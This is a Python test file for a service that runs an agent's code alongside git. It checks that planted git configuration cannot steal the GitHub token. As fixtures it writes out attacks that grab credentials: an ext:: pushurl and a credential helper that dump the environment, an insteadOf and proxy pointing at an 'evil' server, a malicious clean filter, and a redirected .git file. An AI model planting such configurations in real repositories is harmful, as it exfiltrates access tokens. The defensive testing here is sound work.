"""What the agent's programs write for git never runs next to the GitHub token nor sends it away.

The agent runs as the service's user: a script can rewrite the shared clone's `.git/config`, a
worktree's `.git` file and `~/.gitconfig`. Origin here is served over smart HTTP behind Basic auth
(`git http-backend`, like GitHub), so the token really is in the environment of every fetch and
push. Each planted configuration is first shown to be live, by plain git with a canary token in
the same place; the service's git must then refuse it (or ignore it), never hand the token over,
and recover on the next sync.
"""

from __future__ import annotations

import logging
import os
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from app.errors import TamperingError, WorkspaceError
from app.git import TOKEN_ENV
from app.process import CommandResult, command_log
from app.workspace import Workspace
from tests.fakes.git_http import GitHttpServer
from tests.fakes.git_repos import git, isolate_git, make_origin, make_repo, rev
from tests.workspace.conftest import BRANCH, commit, make_workspace, ticket_worktree

TOKEN = "ghp_PlantedConfigToken0123456789"
CANARY = "canary-token-for-plain-git-0123"
TAMPERED = "git configuration was changed outside the service"


@pytest.fixture(autouse=True)
def _clean_git(monkeypatch: pytest.MonkeyPatch) -> None:
    isolate_git(monkeypatch)


@dataclass
class Scene:
    """GitHub (origin over HTTP), another host holding a bare repository, and what they saw."""

    origin: Path
    github: GitHttpServer
    evil_repo: Path
    evil: GitHttpServer
    record: Path
    """Where a planted command writes what it was given."""
    root: Path

    @property
    def origin_url(self) -> str:
        return self.github.url("origin.git")

    @property
    def evil_url(self) -> str:
        return self.evil.url("origin.git")

    def leaked(self, value: str) -> bool:
        """Did `value` reach the planted command or the other host?"""
        recorded = self.record.read_text() if self.record.exists() else ""
        seen_elsewhere = " ".join(self.evil.credentials + self.evil.requests)
        return value in recorded or value in seen_elsewhere


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    origin = make_origin(tmp_path / "github", {"README.md": "# widgets\n"})
    evil_repo = make_origin(tmp_path / "evil", {"README.md": "# not yours\n"})
    with (
        GitHttpServer(origin.parent, token=TOKEN) as github,
        GitHttpServer(evil_repo.parent, token=TOKEN) as evil,
    ):
        yield Scene(origin, github, evil_repo, evil, tmp_path / "planted-ran", tmp_path)


def plain_git_push(clone: Path, canary: str, env: dict[str, str] | None = None) -> None:
    """Push the ticket branch as plain git would with the token in a credential helper: the
    control that shows a plant is live."""
    helper = '!f() { test "$1" = get || exit 0; echo username=x; echo "password=$CANARY"; }; f'
    subprocess.run(
        ["git", "-c", f"credential.helper={helper}", "push", "origin", f"{BRANCH}:{BRANCH}"],
        cwd=clone,
        env={**os.environ, "GIT_TERMINAL_PROMPT": "0", "CANARY": canary, **(env or {})},
        capture_output=True,
        timeout=60,
        check=False,
    )


def ext_pushurl(scene: Scene) -> str:
    return (
        f'[remote "origin"]\n\tpushurl = ext::sh -c env>>{scene.record}\n'
        '[protocol "ext"]\n\tallow = always\n'
    )


def include_path(scene: Scene) -> str:
    included = scene.root / "included.gitconfig"
    included.write_text(ext_pushurl(scene))
    return f"[include]\n\tpath = {included}\n"


def insteadof(scene: Scene) -> str:
    return f'[url "{scene.evil_url}"]\n\tinsteadOf = {scene.origin_url}\n'


def recording_helper(scene: Scene) -> str:
    return f'[credential]\n\thelper = "!f() {{ cat; env; }} >>{scene.record}; f"\n'


def http_proxy(scene: Scene) -> str:
    return f"[http]\n\tproxy = {scene.evil.url('')}\n"


PLANTS: dict[str, tuple[Callable[[Scene], str], str]] = {
    "ext-pushurl": (ext_pushurl, "remote.origin.pushurl"),
    "include": (include_path, "include.path"),
    "insteadof": (insteadof, ".insteadof"),
    "credential-helper": (recording_helper, "credential.helper"),
    "http-proxy": (http_proxy, "http.proxy"),
}


async def pushed_ready(scene: Scene) -> tuple[Workspace, Path, str]:
    """A workspace on the HTTP origin with a committed ticket branch, not pushed yet."""
    workspace = make_workspace(scene.root / "ws", repo_url=scene.origin_url, token=TOKEN)
    worktree = await ticket_worktree(workspace)
    (worktree / "feature.py").write_text("x = 1\n")
    sha = await commit(workspace, worktree, "PROJ-1: feature")
    assert sha is not None
    return workspace, worktree, sha


@pytest.mark.parametrize("plant", PLANTS)
async def test_planted_clone_configuration_is_refused_then_restored(
    scene: Scene, plant: str, caplog: pytest.LogCaptureFixture
) -> None:
    write_plant, key = PLANTS[plant]
    workspace, worktree, sha = await pushed_ready(scene)
    config = workspace.repo / ".git" / "config"
    with config.open("a") as file:  # what the agent's script does
        file.write(write_plant(scene))

    plain_git_push(workspace.repo, CANARY)
    assert scene.leaked(CANARY), "the plant is live: plain git hands it the token"

    with pytest.raises(TamperingError, match=TAMPERED) as caught:
        await workspace.push(BRANCH, commit=sha)
    assert key in str(caught.value)
    with pytest.raises(TamperingError, match=TAMPERED):
        await workspace.has_changes(worktree)
    assert rev(scene.origin, f"refs/heads/{BRANCH}") is None

    with caplog.at_level(logging.WARNING, logger="app.git"):
        await workspace.sync()  # the next run
    restores = [r for r in caplog.records if r.message == "workspace.git_config_restored"]
    assert len(restores) == 1
    assert any(key in wrong for wrong in restores[0].keys)
    await workspace.push(BRANCH, commit=sha)

    assert rev(scene.origin, f"refs/heads/{BRANCH}") == sha
    assert rev(scene.evil_repo, f"refs/heads/{BRANCH}") is None
    assert not scene.leaked(TOKEN)
    assert TOKEN not in config.read_text()
    assert f"x-access-token:{TOKEN}" in scene.github.credentials


@pytest.mark.parametrize("where", [".gitconfig", ".config/git/config"])
async def test_global_configuration_in_home_is_never_read(
    scene: Scene, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = scene.root / "home"
    (home / where).parent.mkdir(parents=True, exist_ok=True)
    (home / where).write_text(recording_helper(scene) + insteadof(scene))
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("GIT_CONFIG_GLOBAL")
    workspace, _worktree, sha = await pushed_ready(scene)

    plain_git_push(workspace.repo, CANARY)
    assert scene.leaked(CANARY), "the plant is live: plain git reads it"

    await workspace.sync()
    await workspace.push(BRANCH, commit=sha)

    assert rev(scene.origin, f"refs/heads/{BRANCH}") == sha
    assert not scene.leaked(TOKEN)


async def test_a_rewritten_worktree_git_file_is_never_followed(scene: Scene) -> None:
    """The worktree's `.git` file names the repository git works in. Pointed at a repository
    whose configuration runs a clean filter on `git add`, it would run that filter outside the
    agent's guard and could change what is committed after the leak check."""
    workspace, worktree, _ = await pushed_ready(scene)
    decoy = make_repo(scene.root / "decoy")
    git("config", "filter.steal.clean", f"sh -c 'env >>{scene.record}; cat'", cwd=decoy)
    (worktree / ".gitattributes").write_text("* filter=steal\n")
    (worktree / ".git").write_text(f"gitdir: {decoy / '.git'}\n")
    (worktree / "more.py").write_text("y = 2\n")

    sha = await commit(workspace, worktree, "PROJ-1: more")

    assert not scene.record.exists()
    assert rev(workspace.repo, f"refs/heads/{BRANCH}") == sha
    assert git("show", "--name-only", "--format=", sha, cwd=workspace.repo).split() == [
        ".gitattributes",
        "more.py",
    ]
    git("add", "-A", cwd=worktree)  # plain git follows the file and runs the filter
    assert scene.record.exists()


async def test_a_clone_whose_git_dir_was_replaced_is_cloned_again(scene: Scene) -> None:
    """`<clone>/.git` turned into a `.git` file naming another repository: git would follow it,
    to that repository's configuration. Nothing runs on it; the next sync clones afresh."""
    workspace, _worktree, sha = await pushed_ready(scene)
    decoy = make_repo(scene.root / "decoy")
    git("config", "credential.helper", f"!env >>{scene.record}", cwd=decoy)
    git_dir = workspace.repo / ".git"
    git_dir.rename(scene.root / "moved-git-dir")
    git_dir.write_text(f"gitdir: {decoy / '.git'}\n")

    with pytest.raises(TamperingError, match=r"\.git \(not a directory\)"):
        await workspace.push(BRANCH, commit=sha)
    again = await ticket_worktree(workspace)

    assert workspace.git.has_git_dir()
    assert rev(again, "HEAD") == rev(scene.origin, "main")
    assert not scene.record.exists()


async def test_a_clean_clone_is_parsed_once_and_works(scene: Scene) -> None:
    records: list[CommandResult] = []
    reset = command_log.set(records)
    try:
        workspace, _worktree, sha = await pushed_ready(scene)
        await workspace.push(BRANCH, commit=sha)
        await workspace.sync()
        assert await workspace.base_branch(None) == "main"
    finally:
        command_log.reset(reset)

    parses = [r for r in records if r.argv[1:4] == ("config", "--file", "-")]
    assert len(parses) == 1
    assert rev(scene.origin, f"refs/heads/{BRANCH}") == sha
    assert rev(workspace.repo, f"refs/remotes/origin/{BRANCH}") == sha


async def test_token_is_not_handed_to_ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """ssh reads `~/.ssh/config` (ProxyCommand, LocalCommand) and authenticates with keys: the
    token would only be exposed there."""
    record = tmp_path / "ssh-env"
    ssh = tmp_path / "ssh"
    ssh.write_text(f"#!/bin/sh\nenv >{record}\nexit 1\n")
    ssh.chmod(0o755)
    monkeypatch.setenv("GIT_SSH", str(ssh))
    workspace = make_workspace(
        tmp_path / "ws", repo_url="ssh://git@example.invalid/acme/widgets.git", token=TOKEN
    )

    with pytest.raises(WorkspaceError, match="clone of REPO_URL failed"):
        await workspace.sync()

    seen = record.read_text()  # our git ran this ssh
    assert TOKEN not in seen and TOKEN_ENV not in seen


async def test_a_local_repository_keeps_its_own_configuration(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "local", {"app.py": "pass\n"})
    git("config", "alias.st", "status", cwd=repo)
    git("config", "rerere.enabled", "true", cwd=repo)
    workspace = make_workspace(tmp_path / "ws", repo_dir=repo)
    await workspace.sync()

    base_commit = await workspace.base_commit("main")
    worktree = await workspace.create_worktree(branch=BRANCH, base_commit=base_commit)
    (worktree / "app.py").write_text("print('changed')\n")
    sha = await workspace.commit(worktree, message="PROJ-1: change", base_commit=base_commit)

    assert rev(repo, BRANCH) == sha
    assert git("config", "alias.st", cwd=repo).strip() == "status"
